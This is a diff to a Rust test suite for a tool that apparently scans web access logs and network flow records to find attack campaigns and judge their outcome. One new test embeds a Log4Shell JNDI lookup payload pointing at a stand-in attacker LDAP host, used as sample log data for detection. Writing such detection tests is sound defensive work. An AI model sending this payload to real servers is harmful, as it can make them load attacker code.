@@ -126,6 +126,29 @@ fn findings_carry_their_incident_and_its_outcome() {
 }
 
 #[test]
+fn a_connection_of_the_server_to_the_attacker_shows_success() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let request = "GET /?x=${jndi:ldap://203.0.113.77:1389/a}";
+    let log = line(0, "198.51.100.7", request, 200, 900);
+    let log = write(folder.path(), "access.log", &log);
+    let flow = |to: &str| {
+        format!(
+            "{{\"timestamp\":\"2026-03-01T10:00:04.000000+0900\",\"event_type\":\"flow\",\"src_ip\":\"10.0.0.5\",\"src_port\":40000,\"dest_ip\":\"{to}\",\"dest_port\":1389,\"proto\":\"TCP\",\"flow\":{{\"pkts_toserver\":4}}}}\n"
+        )
+    };
+    for (to, outcome) in [("203.0.113.77", "success"), ("203.0.113.99", "unknown")] {
+        let eve = write(folder.path(), "eve.json", &flow(to));
+        for paths in [[&log, &eve], [&eve, &log]] {
+            let found = findings(&[], &paths.map(Clone::clone));
+            assert!(!found.is_empty());
+            for finding in found {
+                assert_eq!(finding["outcome"], outcome, "{to}: {finding}");
+            }
+        }
+    }
+}
+
+#[test]
 fn the_number_of_threads_changes_nothing() {
     let folder = tempfile::tempdir().expect("a folder");
     let mut text = String::new();
@@ -169,7 +192,10 @@ fn every_row_of_a_table_has_all_columns() {
 fn people_are_told_what_happened_and_what_could_not_be_seen() {
     let folder = tempfile::tempdir().expect("a folder");
     let path = write(folder.path(), "access.log", &log());
-    let text = scan(&["--format", "human", "--lang", "en"], &[path.clone()]);
+    let text = scan(
+        &["--format", "human", "--lang", "en"],
+        std::slice::from_ref(&path),
+    );
     for words in [
         "Campaigns: 2 succeeded, 0 unknown, 1 failed",
         "SQL injection",
@@ -201,7 +227,10 @@ fn recorded_campaigns_are_told_apart_with_their_outcome() {
         return;
     };
     let data = Path::new(&data).join("web");
-    let read = |name: &str| std::fs::read_to_string(data.join(name)).expect(name);
+    let read = |name: &str| {
+        let bytes = std::fs::read(data.join(name)).expect(name);
+        String::from_utf8(bytes).expect("UTF-8")
+    };
     let truth: BTreeMap<u64, String> = read("campaigns-truth.tsv")
         .lines()
         .filter_map(|row| row.split_once('\t'))
